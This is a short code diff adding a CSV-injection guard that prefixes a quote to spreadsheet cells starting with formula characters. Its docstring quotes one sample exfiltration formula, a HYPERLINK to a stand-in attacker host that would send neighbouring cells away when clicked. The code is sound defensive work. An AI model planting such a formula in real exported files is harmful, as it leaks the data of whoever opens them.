@@ -129,3 +129,19 @@ def utf8_text(
         raise error(
             f"{path}: không phải UTF-8 (byte {n}) / not UTF-8 (byte {n}): 0x{raw[exc.start]:02x}; {hint}"
         ) from None
+
+
+#: How a spreadsheet recognises a formula (OWASP "CSV injection"); a tab or CR before one counts too.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(cell: str) -> str:
+    """A CSV/TSV cell that Excel or LibreOffice would run as a formula, made plain text with a leading ``'``.
+
+    For every file we write for a person to open in a spreadsheet (``search --format csv``,
+    the posts dumped for labelling): crawled titles, links and texts would otherwise turn
+    ``=HYPERLINK("https://evil.example/?"&A2,…)`` into a live link that sends the
+    neighbouring cells away when clicked. Not for files only our own code reads back (a
+    training CSV): the ``'`` would become part of the text.
+    """
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
